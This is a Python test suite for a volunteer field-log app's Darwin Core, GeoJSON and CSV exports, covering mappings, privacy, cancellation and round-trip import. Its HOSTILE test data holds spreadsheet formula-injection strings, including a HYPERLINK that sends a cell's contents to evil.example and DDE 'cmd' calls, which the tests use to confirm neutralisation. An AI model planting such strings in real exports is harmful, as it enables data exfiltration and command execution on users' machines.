"""The open-format exports: Darwin Core archive, GeoJSON of sites, and a CSV folder that imports back."""

from __future__ import annotations

import csv
import datetime as dt
import errno
import io
import json
import math
import os
import threading
import uuid
import zipfile
from collections import defaultdict
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from defusedxml import ElementTree as SafeET

from fieldlog.db.store import Database
from fieldlog.domain.errors import ExportFailed
from fieldlog.domain.kinds import NativeStatus
from fieldlog.domain.records import (
    Activity,
    Event,
    InvasiveRemoval,
    LitterPickup,
    Planting,
    SeedballMaking,
    SeedCollection,
    Site,
)
from fieldlog.domain.summary import NO_FILTER, SummaryFilter
from fieldlog.io.columns import SHEETS
from fieldlog.io.csv_export import csv_cell, neutralise, strip_formula_guard
from fieldlog.io.dwc import CORE_FILE, EML_FILE, META_FILE, MOF_FILE, taxon_rank
from fieldlog.io.table_rows import export_sheets, exported_columns
from fieldlog.services.demo import fill_demo_data
from fieldlog.services.importing import import_file
from fieldlog.services.open_exports import export_csv, export_dwc, export_geojson
from fieldlog.services.queries import refresh_statistics
from fieldlog.services.records import Cancelled, Records
from fieldlog.services.summary import summarize
from tests.conftest import Databases

TODAY = dt.date(2026, 11, 21)
EMAIL = "PII-EMAIL-SENTINEL@example.org"
NAME = "PII-NAME-SENTINEL Quixote"
REQUIRED = ("occurrenceID", "basisOfRecord", "scientificName", "eventDate", "decimalLatitude", "decimalLongitude",
            "countryCode")
DWC_TEXT = "{http://rs.tdwg.org/dwc/text/}"
EML_NS = "{https://eml.ecoinformatics.org/eml-2.2.0}"
CSV_ORDER = ("events", "planting", "seed_collection", "seedball_making", "invasive_removal", "litter_pickup",
             "other", "litter_items")
HOSTILE = {  # text a spreadsheet would run as a formula, in fields the CSV export writes
    "event_name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "organisation": "@SUM(1+1)*cmd|' /C calc'!A0",
    "event_notes": "-2+3+cmd|' /C calc'!A0\nsecond line",
    "locality": "+1 555 0100",
    "activity_notes": "'=already guarded looking",
    "seed_source": "=1+1",
}


@dataclass(frozen=True)
class Source:
    """The shared source database and the records the tests look for."""

    database: Database
    deleted: uuid.UUID  # a planting deleted before the exports
    bare_site: uuid.UUID  # a site without coordinates
    bare_planting: uuid.UUID  # a planting there without coordinates: no occurrence
    dateless: uuid.UUID  # a planting without a date: eventDate is the event's interval
    sentinel_event: uuid.UUID


@pytest.fixture(scope="module")
def source(module_databases: Databases) -> Source:
    """Demo data plus: personal-data sentinels and hostile text, a site without coordinates, a deleted planting."""
    database = module_databases.open("source")
    records = Records(database, today=lambda: TODAY)
    fill_demo_data(records, events=40, seed=11)
    site = records.record_site(Site(name="Karura Forest east", country_code="KE", locality=HOSTILE["locality"],
                                    latitude=-1.2367, longitude=36.835, area_m2=40_000)).record
    event = records.record_event(Event(
        event_name=HOSTILE["event_name"], site_id=site.id, start=dt.datetime(2026, 5, 31, 9),
        end=dt.datetime(2026, 5, 31, 12, 30), participants=12, campaign="MAD-Week 2026",
        organisation=HOSTILE["organisation"], organizer_name=NAME, organizer_contact=EMAIL,
        notes=HOSTILE["event_notes"])).record
    dateless = records.record_activity(Planting(
        event_id=event.id, species="Croton megalocarpus", plants=40, native_status=NativeStatus.NATIVE,
        area_m2=120.0, seed_source=HOSTILE["seed_source"], notes=HOSTILE["activity_notes"])).record
    records.record_activity(SeedCollection(event_id=event.id, date=dt.date(2026, 5, 31), species="Acacia sp.",
                                           seed_lot_id="KE-2026-LOT-1", mass_g=12.5, plants_sampled=60,
                                           latitude=-1.24, longitude=36.83))
    records.record_activity(SeedballMaking(event_id=event.id, seedballs=300, species="Acacia tortilis;Croton"))
    records.record_activity(LitterPickup(event_id=event.id, bags=3, weight_kg=4.5))
    bare = records.record_site(Site(name="Unmapped allotment", country_code="KE", locality="Kisumu")).record
    bare_event = records.record_event(Event(event_name="Allotment weeding", site_id=bare.id,
                                            start=dt.datetime(2026, 6, 2, 14), end=dt.datetime(2026, 6, 2, 16),
                                            participants=5, organizer_name=NAME, organizer_contact=EMAIL)).record
    bare_planting = records.record_activity(Planting(event_id=bare_event.id, date=dt.date(2026, 6, 2),
                                                     species="Markhamia lutea", plants=8)).record
    records.record_activity(InvasiveRemoval(event_id=bare_event.id, date=dt.date(2026, 6, 2),
                                            species="Lantana camara", stems=30, weight_kg=12.0,
                                            latitude=-0.09, longitude=34.77))
    victim = next(a for e in records.list_events(limit=None) for a in records.list_activities(e.id)
                  if isinstance(a, Planting) and a.event_id not in (event.id, bare_event.id))
    records.delete(victim.id)
    refresh_statistics(database)  # as the server's autovacuum would have by the time anyone exports
    return Source(database, victim.id, bare.id, bare_planting.id, dateless.id, event.id)


def live(database: Database, flt: SummaryFilter = NO_FILTER) -> Iterator[tuple[Event, Site, list[Activity]]]:
    """Every live event of the filter with its site and live activities, through the record service."""
    records = Records(database, today=lambda: TODAY)
    sites = {site.id: site for site in records.list_sites()}
    for event in records.list_events(flt, limit=None):
        yield event, sites[event.site_id], records.list_activities(event.id)


def read_dwc(path: Path) -> tuple[dict[str, bytes], list[str], list[dict[str, str]]]:
    """An archive's members, the occurrence file's header and its rows (term -> value)."""
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    lines = members[CORE_FILE].decode("utf-8").split("\n")
    assert lines[-1] == ""
    header = lines[0].split("\t")
    rows = []
    for line in lines[1:-1]:
        cells = line.split("\t")
        assert len(cells) == len(header), line
        rows.append(dict(zip(header, cells, strict=True)))
    return members, header, rows


# -- Darwin Core ------------------------------------------------------------------------------------

@pytest.mark.parametrize("flt", [NO_FILTER, SummaryFilter(campaign="mad-week 2026"),
                                 SummaryFilter(country="KE", date_from=dt.date(2026, 1, 1))],
                         ids=["all", "campaign", "country-dates"])
def test_dwc_has_every_occurrence_with_the_required_terms(source: Source, tmp_path: Path,
                                                          flt: SummaryFilter) -> None:
    result = export_dwc(source.database, tmp_path / "dwc.zip", flt)
    _, _, rows = read_dwc(tmp_path / "dwc.zip")
    for row in rows:
        assert all(row[term] for term in REQUIRED), row
        assert row["kingdom"] == "Plantae" and row["occurrenceStatus"] == "present"
        assert row["geodeticDatum"] == "EPSG:4326"
        assert -90 <= float(row["decimalLatitude"]) <= 90 and -180 <= float(row["decimalLongitude"]) <= 180
    expected: dict[str, set[str]] = defaultdict(set)
    left_out = 0
    for _, site, activities in live(source.database, flt):
        for activity in activities:
            if isinstance(activity, Planting | SeedCollection | InvasiveRemoval):
                if activity.latitude is None and site.latitude is None:
                    left_out += 1
                else:
                    expected[activity.kind.value].add(f"urn:uuid:{activity.id}")
    assert {row["occurrenceID"] for row in rows} == set().union(*expected.values())
    assert len(rows) == sum(len(ids) for ids in expected.values())
    assert result.counts == {kind: len(ids) for kind, ids in expected.items()} | {
        kind: 0 for kind in ("planting", "seed_collection", "invasive_removal") if kind not in expected}
    assert result.left_out == {"occurrences without coordinates": left_out}
    assert f"urn:uuid:{source.deleted}" not in {row["occurrenceID"] for row in rows}


def test_dwc_values_follow_the_mapping(source: Source, tmp_path: Path) -> None:
    reports: list[tuple[int, int]] = []
    result = export_dwc(source.database, tmp_path / "dwc.zip", progress=lambda done, total: reports.append(
        (done, total)))
    activities = sum(len(activities) for _, _, activities in live(source.database))
    assert reports and reports[-1] == (activities, activities)
    members, _, rows = read_dwc(tmp_path / "dwc.zip")
    by_id = {row["occurrenceID"]: row for row in rows}
    dateless = by_id[f"urn:uuid:{source.dateless}"]
    assert dateless["eventDate"] == "2026-05-31T09:00/2026-05-31T12:30"
    assert dateless["basisOfRecord"] == "HumanObservation" and dateless["individualCount"] == "40"
    assert dateless["establishmentMeans"] == "native" and dateless["taxonRank"] == "species"
    assert dateless["sampleSizeValue"] == "120.0" and dateless["sampleSizeUnit"] == "square metre"
    assert dateless["decimalLatitude"] == "-1.2367"  # the site's: the planting has no coordinates
    assert dateless["georeferenceRemarks"].startswith("coordinates of the site")
    assert dateless["countryCode"] == "KE" and dateless["country"] == "Kenya"
    assert dateless["eventID"] == f"urn:uuid:{source.sentinel_event}"
    lots = [row for row in rows if row["materialSampleID"] == "KE-2026-LOT-1"]
    assert len(lots) == 1 and lots[0]["basisOfRecord"] == "MaterialSample"
    assert lots[0]["recordNumber"] == "KE-2026-LOT-1" and lots[0]["taxonRank"] == "genus"
    assert lots[0]["decimalLatitude"] == "-1.24" and lots[0]["eventDate"] == "2026-05-31"
    assert f"urn:uuid:{source.bare_planting}" not in by_id
    assert result.left_out["occurrences without coordinates"] == 1
    assert all(row["basisOfRecord"] in ("HumanObservation", "MaterialSample") for row in rows)
    assert all(row["scientificName"] == row["verbatimIdentification"] for row in rows)
    mof = members[MOF_FILE].decode("utf-8").splitlines()
    assert mof[0].split("\t") == ["id", "measurementType", "measurementValue", "measurementUnit"]
    assert {line.split("\t")[0] for line in mof[1:]} <= set(by_id)
    assert f"urn:uuid:{lots[0]['occurrenceID'][9:]}\tplants sampled\t60\tplants" in mof


def test_dwc_meta_and_eml_parse_and_match_the_files(source: Source, tmp_path: Path) -> None:
    export_dwc(source.database, tmp_path / "dwc.zip")
    members, header, rows = read_dwc(tmp_path / "dwc.zip")
    assert set(members) == {CORE_FILE, MOF_FILE, META_FILE, EML_FILE}
    meta = SafeET.fromstring(members[META_FILE])
    assert meta.tag == f"{DWC_TEXT}archive" and meta.get("metadata") == EML_FILE
    core = meta.find(f"{DWC_TEXT}core")
    assert core is not None
    assert core.get("rowType") == "http://rs.tdwg.org/dwc/terms/Occurrence"
    assert (core.get("encoding"), core.get("fieldsTerminatedBy"), core.get("fieldsEnclosedBy"),
            core.get("ignoreHeaderLines")) == ("UTF-8", "\\t", "", "1")
    assert core.findtext(f"{DWC_TEXT}files/{DWC_TEXT}location") == CORE_FILE
    id_element = core.find(f"{DWC_TEXT}id")
    assert id_element is not None and header[int(id_element.get("index", "-1"))] == "occurrenceID"
    fields = core.findall(f"{DWC_TEXT}field")
    assert len(fields) == len(header)
    for element in fields:
        term = element.get("term", "")
        assert term.startswith(("http://rs.tdwg.org/dwc/terms/", "http://purl.org/dc/terms/"))
        assert term.rsplit("/", 1)[1] == header[int(element.get("index", "-1"))]
    extension = meta.find(f"{DWC_TEXT}extension")
    assert extension is not None and extension.get("rowType") == "http://rs.tdwg.org/dwc/terms/MeasurementOrFact"
    mof_header = members[MOF_FILE].decode().split("\n", 1)[0].split("\t")
    for element in extension.findall(f"{DWC_TEXT}field"):
        assert element.get("term", "").rsplit("/", 1)[1] == mof_header[int(element.get("index", "-1"))]

    eml = SafeET.fromstring(members[EML_FILE])
    assert eml.tag == f"{EML_NS}eml"
    dataset = eml.find("dataset")
    assert dataset is not None
    assert dataset.findtext("title") and dataset.findtext("pubDate") == dt.date.today().isoformat()
    abstract = " ".join(para.text or "" for para in dataset.iterfind("abstract/para"))
    assert "1 occurrence(s) were left out" in abstract and "litter" in abstract
    assert "licenses/by/4.0" in members[EML_FILE].decode()
    box = {child.tag: float(child.text or "nan") for child in dataset.iterfind(
        "coverage/geographicCoverage/boundingCoordinates/*")}
    lats = [float(row["decimalLatitude"]) for row in rows]
    lons = [float(row["decimalLongitude"]) for row in rows]
    assert box == {"westBoundingCoordinate": min(lons), "eastBoundingCoordinate": max(lons),
                   "northBoundingCoordinate": max(lats), "southBoundingCoordinate": min(lats)}
    begin = dataset.findtext("coverage/temporalCoverage/rangeOfDates/beginDate/calendarDate")
    assert begin == min(row["eventDate"][:10] for row in rows)


def test_taxon_rank() -> None:
    assert taxon_rank("Quercus robur") == "species"
    assert taxon_rank("Quercus") == "genus"
    assert taxon_rank("Acacia sp.") == "genus"
    assert taxon_rank("Acacia mearnsii De Wild.") == ""
    assert taxon_rank("Quercus robur subsp. robur") == ""


# -- GeoJSON ---------------------------------------------------------------------------------------

def _refuse_constant(name: str) -> Any:
    raise AssertionError(f"{name} is not JSON")


def _expected_totals(database: Database, flt: SummaryFilter) -> dict[str, dict[str, float]]:
    totals: dict[str, dict[str, float]] = defaultdict(lambda: defaultdict(float))
    for event, site, activities in live(database, flt):
        site_totals = totals[str(site.id)]
        site_totals["events"] += 1
        site_totals["participants"] += event.participants
        site_totals["volunteer_hours"] += event.volunteer_hours or 0
        for activity in activities:
            match activity:
                case Planting():
                    site_totals["plantings"] += 1
                    site_totals["plants"] += activity.plants
                    site_totals["planted_area_m2"] += activity.area_m2 or 0
                case SeedCollection():
                    site_totals["seed_mass_g"] += activity.mass_g or 0
                    site_totals["seed_count"] += activity.seed_count or 0
                case InvasiveRemoval():
                    site_totals["invasive_removals"] += 1
                    site_totals["invasive_area_m2"] += activity.area_m2 or 0
                    site_totals["invasive_weight_kg"] += activity.weight_kg or 0
                    site_totals["invasive_bags"] += activity.bags or 0
                case LitterPickup():
                    site_totals["litter_bags"] += activity.bags or 0
                    site_totals["litter_weight_kg"] += activity.weight_kg or 0
                    site_totals["litter_items"] += activity.item_total
                case SeedballMaking():
                    site_totals["seedballs"] += activity.seedballs
    return totals


@pytest.mark.parametrize("flt", [NO_FILTER, SummaryFilter(campaign="MAD-Week 2026")], ids=["all", "campaign"])
def test_geojson_sites_with_totals(source: Source, tmp_path: Path, flt: SummaryFilter) -> None:
    out = tmp_path / "sites.geojson"
    result = export_geojson(source.database, out, flt)
    collection = json.loads(out.read_text(encoding="utf-8"), parse_constant=_refuse_constant)
    assert collection["type"] == "FeatureCollection"
    expected = _expected_totals(source.database, flt)
    sites = {site.id: site for site in Records(source.database).list_sites()}
    mapped = {key for key in expected if sites[uuid.UUID(key)].latitude is not None}
    assert {feature["id"] for feature in collection["features"]} == mapped
    assert result.counts == {"sites": len(mapped)}
    unmapped = len(expected) - len(mapped)
    assert collection["sites_without_coordinates"] == unmapped
    assert result.left_out == {"sites without coordinates": unmapped}
    if flt == NO_FILTER:
        assert unmapped == 1 and str(source.bare_site) not in {f["id"] for f in collection["features"]}
    for feature in collection["features"]:
        assert feature["type"] == "Feature" and set(feature) == {"type", "id", "geometry", "properties"}
        site = sites[uuid.UUID(feature["id"])]
        assert feature["geometry"] == {"type": "Point", "coordinates": [site.longitude, site.latitude]}
        properties = feature["properties"]
        assert (properties["site_id"], properties["name"], properties["country_code"], properties["locality"],
                properties["area_m2"]) == (str(site.id), site.name, site.country_code, site.locality, site.area_m2)
        for name, value in expected[feature["id"]].items():
            assert math.isclose(properties[name], value, rel_tol=1e-9, abs_tol=1e-6), (name, site.name)
    lengths = [feature["geometry"]["coordinates"] for feature in collection["features"]]
    assert any(abs(lon) > 90 for lon, _ in lengths)  # the demo's Pacific sites: only a longitude can be that


# -- CSV -------------------------------------------------------------------------------------------

def read_csv(path: Path) -> list[list[str]]:
    """A CSV file's rows; it must start with a UTF-8 byte-order mark."""
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_files_have_the_column_specs_headers(source: Source, tmp_path: Path) -> None:
    out = tmp_path / "new" / "csv"
    result = export_csv(source.database, out)
    assert sorted(path.name for path in out.iterdir()) == sorted(f"{key}.csv" for key in CSV_ORDER)
    for sheet in export_sheets():
        rows = read_csv(out / f"{sheet.key}.csv")
        assert rows[0] == [column.header for column in exported_columns(sheet)]
        assert all(len(row) == len(rows[0]) for row in rows)
        assert result.counts[sheet.key] == len(rows) - 1
    planting = read_csv(out / "planting.csv")
    assert str(source.deleted) not in {row[0] for row in planting}
    events = read_csv(out / "events.csv")
    assert "Organizer" not in events[0] and "Organizer contact" not in events[0]


def test_csv_cells() -> None:
    assert csv_cell(None) == "" and csv_cell(0.1) == "0.1" and csv_cell(12) == "12"
    assert csv_cell(float("nan")) == "" and csv_cell(1e-05) == "1e-05"
    assert csv_cell(dt.datetime(2026, 5, 31, 9, 0)) == "2026-05-31T09:00"
    assert csv_cell(dt.datetime(2026, 5, 31, 9, 0, 5)) == "2026-05-31T09:00:05"
    assert csv_cell(dt.date(2026, 5, 31)) == "2026-05-31"
    for text in ("=1+1", "+1", "-1", "@x", "\tx", "\rx", "'=x", "''+x", "'s-Hertogenbosch", "plain", "'", ""):
        guarded = neutralise(text)
        assert not guarded.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert strip_formula_guard(guarded) == text
    assert neutralise("'s-Hertogenbosch") == "'s-Hertogenbosch"  # an apostrophe that guards nothing stays


def test_hostile_text_is_neutralised_in_the_csv(source: Source, tmp_path: Path) -> None:
    export_csv(source.database, tmp_path / "csv")
    cells = {cell for key in CSV_ORDER for row in read_csv(tmp_path / "csv" / f"{key}.csv") for cell in row}
    for field, text in HOSTILE.items():
        assert "'" + text in cells, field
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not cell.startswith("-") or _is_number(cell), cell


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _import_folder(folder: Path, databases: Databases) -> Database:
    database = databases.open("copy")
    for key in CSV_ORDER:
        preview, _ = import_file(database, folder / f"{key}.csv")
        assert not preview.errors, [outcome.reasons for outcome in preview.errors]
    return database


def test_csv_folder_imports_back_to_the_same_summary(source: Source, databases: Databases, tmp_path: Path) -> None:
    export_csv(source.database, tmp_path / "csv")
    copy = _import_folder(tmp_path / "csv", databases)
    for flt in (NO_FILTER, SummaryFilter(campaign="MAD-Week 2026"), SummaryFilter(country="KE")):
        assert summarize(copy, flt).differences(summarize(source.database, flt)) == []
    events = Records(copy).list_events(limit=None)
    assert len(events) == len(Records(source.database).list_events(limit=None))
    assert all(event.organizer_contact is None and event.organizer_name is None for event in events)
    derived = {event.id: event.hours_derived for event in Records(source.database).list_events(limit=None)}
    assert {event.id: event.hours_derived for event in events} == derived  # derived hours stay derived
    assert any(derived.values()) and not all(derived.values())


def test_hostile_text_round_trips_through_a_csv_import(source: Source, databases: Databases, tmp_path: Path) -> None:
    export_csv(source.database, tmp_path / "csv")
    records = Records(_import_folder(tmp_path / "csv", databases))
    event = records.get_event(source.sentinel_event)
    site = records.get_site(event.site_id)
    planting = records.get_activity(source.dateless)
    assert isinstance(planting, Planting)
    assert (event.event_name, event.organisation, event.notes, site.locality, planting.notes,
            planting.seed_source) == (HOSTILE["event_name"], HOSTILE["organisation"], HOSTILE["event_notes"],
                                      HOSTILE["locality"], HOSTILE["activity_notes"], HOSTILE["seed_source"])


# -- privacy ---------------------------------------------------------------------------------------

def _all_bytes(path: Path) -> Iterator[tuple[str, bytes]]:
    if path.is_dir():
        for child in sorted(path.iterdir()):
            yield child.name, child.read_bytes()
        return
    data = path.read_bytes()
    yield path.name, data
    if zipfile.is_zipfile(path):
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                yield f"{path.name}:{name}", archive.read(name)


def _findings(path: Path) -> set[str]:
    found = set()
    for where, data in _all_bytes(path):
        for sentinel in (EMAIL, NAME, "PII-"):
            if sentinel.encode("utf-8") in data:
                found.add(f"{sentinel} in {where}")
    return found


def test_no_personal_data_unless_asked_for(source: Source, tmp_path: Path) -> None:
    export_dwc(source.database, tmp_path / "dwc.zip")
    export_geojson(source.database, tmp_path / "sites.geojson")
    export_csv(source.database, tmp_path / "csv")
    for written in (tmp_path / "dwc.zip", tmp_path / "sites.geojson", tmp_path / "csv"):
        assert _findings(written) == set()

    # the same exports with personal data asked for do carry it: the check above can see it
    export_dwc(source.database, tmp_path / "dwc-personal.zip", include_personal=True)
    export_csv(source.database, tmp_path / "csv-personal", include_personal=True)
    members, header, rows = read_dwc(tmp_path / "dwc-personal.zip")
    assert "recordedBy" in header and any(row["recordedBy"] == NAME for row in rows)
    assert all(EMAIL.encode() not in data for data in members.values())  # a contact has no Darwin Core term
    events = read_csv(tmp_path / "csv-personal" / "events.csv")
    assert "Organizer contact" in events[0] and any(EMAIL in row for row in events)


# -- failures --------------------------------------------------------------------------------------

Export = Callable[[Database, Path, threading.Event | None], object]
EXPORTS: dict[str, tuple[str, Export]] = {
    "dwc": ("out.zip", lambda db, out, cancel: export_dwc(db, out, cancel=cancel)),
    "geojson": ("out.geojson", lambda db, out, cancel: export_geojson(db, out, cancel=cancel)),
    "csv": ("new/csv", lambda db, out, cancel: export_csv(db, out, cancel=cancel)),  # folders made, then removed
}


class CancelAfter(threading.Event):
    """A cancel button pressed after the export has checked it `checks` times (mid-way through the data)."""

    def __init__(self, checks: int) -> None:
        super().__init__()
        self.checks = checks

    def is_set(self) -> bool:
        self.checks -= 1
        return self.checks < 0


def _left_behind(folder: Path) -> list[str]:
    return sorted(str(path.relative_to(folder)) for path in folder.rglob("*"))


@pytest.mark.parametrize("kind", list(EXPORTS))
@pytest.mark.parametrize("checks", [0, 5], ids=["at-once", "mid-way"])
def test_cancel_leaves_no_file(source: Source, tmp_path: Path, kind: str, checks: int) -> None:
    name, run = EXPORTS[kind]
    with pytest.raises(Cancelled):
        run(source.database, tmp_path / name, CancelAfter(checks))
    assert _left_behind(tmp_path) == []


def test_cancel_keeps_an_older_file(source: Source, tmp_path: Path) -> None:
    older = tmp_path / "out.zip"
    older.write_bytes(b"the archive of last week")
    with pytest.raises(Cancelled):
        export_dwc(source.database, older, cancel=CancelAfter(3))
    assert older.read_bytes() == b"the archive of last week" and _left_behind(tmp_path) == ["out.zip"]


@pytest.mark.parametrize("kind", list(EXPORTS))
def test_read_only_disk_fails_in_plain_words(source: Source, tmp_path: Path, kind: str,
                                             monkeypatch: pytest.MonkeyPatch) -> None:
    def read_only(*_args: object, **_kwargs: object) -> tuple[int, str]:
        raise OSError(errno.EROFS, "Read-only file system")

    monkeypatch.setattr("fieldlog.io.atomic.tempfile.mkstemp", read_only)  # root ignores a folder's mode bits
    name, run = EXPORTS[kind]
    with pytest.raises(ExportFailed, match="read-only"):
        run(source.database, tmp_path / name, None)
    assert _left_behind(tmp_path) == []


@pytest.mark.skipif(os.name != "posix" or os.geteuid() == 0, reason="root may write into a read-only folder")
@pytest.mark.parametrize("kind", list(EXPORTS))
def test_read_only_folder_fails_in_plain_words(source: Source, tmp_path: Path, kind: str) -> None:
    folder = tmp_path / "locked"
    folder.mkdir()
    folder.chmod(0o500)
    try:
        name, run = EXPORTS[kind]
        with pytest.raises(ExportFailed, match="write"):
            run(source.database, folder / name, None)
        assert _left_behind(folder) == []
    finally:
        folder.chmod(0o700)


def test_a_file_in_the_way_of_the_csv_folder(source: Source, tmp_path: Path) -> None:
    (tmp_path / "csv").write_text("not a folder")
    with pytest.raises(ExportFailed, match="in the way"):
        export_csv(source.database, tmp_path / "csv")


def test_column_spec_sheets_are_all_written() -> None:
    assert {sheet.key for sheet in export_sheets()} == set(CSV_ORDER) == set(SHEETS) - {"sites"}
